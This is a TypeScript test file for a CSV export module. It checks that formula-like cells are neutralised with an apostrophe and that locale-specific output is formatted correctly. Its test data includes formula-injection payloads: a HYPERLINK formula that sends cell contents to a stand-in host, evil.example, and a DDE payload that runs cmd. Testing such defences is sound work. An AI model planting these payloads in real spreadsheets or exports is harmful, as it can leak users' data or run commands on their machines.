import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { escapeCsvCell, toCsv, unescapeCsvText } from '~/domain/csv';

describe('escapeCsvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1+cmd|/C calc!A0', `'+1+cmd|/C calc!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['- churn', `'- churn`],
  ])('neutralises the text cell %j', (cell, expected) => {
    expect(escapeCsvCell(cell)).toBe(expected);
  });

  it.each([
    ['Churn rate', 'Churn rate'],
    ['a=b', 'a=b'],
    ['', ''],
    ['-12.5', '-12.5'],
    ['+3', '+3'],
    ['-0.000001', '-0.000001'],
    ['1e5', '1e5'],
  ])('leaves %j as it is', (cell, expected) => {
    expect(escapeCsvCell(cell)).toBe(expected);
  });

  it('writes numbers and empty cells as they are', () => {
    expect(escapeCsvCell(-12.5)).toBe('-12.5');
    expect(escapeCsvCell(null)).toBe('');
    expect(escapeCsvCell(undefined)).toBe('');
  });

  it('reads back what it wrote', () => {
    for (const text of ['=1+1', '+x', '-y', '@z', 'plain', "'quoted", '-12.5']) {
      expect(unescapeCsvText(escapeCsvCell(text))).toBe(text);
    }
  });
});

describe('toCsv', () => {
  it('escapes every text cell and quotes what CSV needs quoted; a parser reads the cells back', () => {
    const csv = toCsv(
      [
        ['name', 'value'],
        ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '-12.5'],
        ['Churn, monthly', -3],
      ],
      { bom: true },
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const cells = Papa.parse<string[]>(csv.slice(1)).data;
    expect(cells).toEqual([
      ['name', 'value'],
      [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '-12.5'],
      ['Churn, monthly', '-3'],
    ]);
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});

describe('KPI CSV round trip', () => {
  it('names written escaped by toKpiCsv read back as they were', async () => {
    const { parseKpiCsv, toKpiCsv } = await import('~/domain/kpi-csv');
    const record = { kpi_id: 'k', map: '=HYPERLINK("x")', stage: '+Stage', measure: '-churn', unit: '@u', date: '2025-01-31', value: '-12.5', target: '' };
    const text = toKpiCsv([record]);
    expect(text).toContain(`"'=HYPERLINK(""x"")"`);
    expect(parseKpiCsv(text).rows[0]!.record).toEqual(record);
  });
});

describe("CSV for the reader's locale", () => {
  const rows = [
    ['Projet', 'VAN', 'ROI'],
    ['Relances, proactives', '125000.50', 0.25],
    ['=HYPERLINK("x")', '-12.000', '1e3'],
  ];
  it('a French file splits columns on ";" and writes decimals with a comma, so French Excel opens it as columns', () => {
    expect(toCsv(rows, { locale: 'fr', newline: '\n' })).toBe(
      ['Projet;VAN;ROI', 'Relances, proactives;125000,5;0,25', `"'=HYPERLINK(""x"")";-12;1e3`].join('\n'),
    );
  });
  it('an English file keeps "," and "." and also drops trailing zeros', () => {
    expect(toCsv(rows, { newline: '\n' })).toBe(['Projet,VAN,ROI', '"Relances, proactives",125000.5,0.25', `"'=HYPERLINK(""x"")",-12,1e3`].join('\n'));
  });
});
